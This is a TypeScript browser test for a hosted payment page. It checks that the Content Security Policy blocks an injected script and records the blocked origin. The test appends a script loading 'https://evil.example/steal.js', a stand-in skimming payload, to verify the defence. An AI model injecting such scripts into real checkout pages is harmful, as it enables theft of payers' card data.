import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { browserSetup } from "../support/browser.ts";
import { eventually } from "../support/eventually.ts";
import { createHosted, hostedPage } from "../support/hosted-page.ts";

describe("hosted page: a browser reports what the policy blocked", () => {
  const setup = browserSetup();

  test("a script that was added to the page does not run, and its origin is reported", async () => {
    await setup.visit(
      async (payer) => {
        const { hostedPaymentPage } = await createHosted(setup.shop);
        const { page, ...hosted } = hostedPage(await payer.context.newPage());
        await page.goto(hostedPaymentPage.url);
        await hosted.waitFor("ready");
        await page.evaluate(`document.head.append(
          Object.assign(document.createElement("script"), { src: "https://evil.example/steal.js" }))`);
        const [report] = await eventually(
          "the report",
          async () => {
            const found = await setup.gateway.database.rows<{ page: string; blocked: string }>(
              "select page, blocked from page_reports where directive = 'script-src-elem'",
            );
            return found.length > 0 && found;
          },
          // Chromium sends reports together, up to a minute after the first.
          70_000,
        );
        assert.deepEqual(report, { page: "hosted_page", blocked: "https://evil.example" });
      },
      { stopped: /evil\.example/, vendors: ["https://evil.example"] },
    );
  });
});
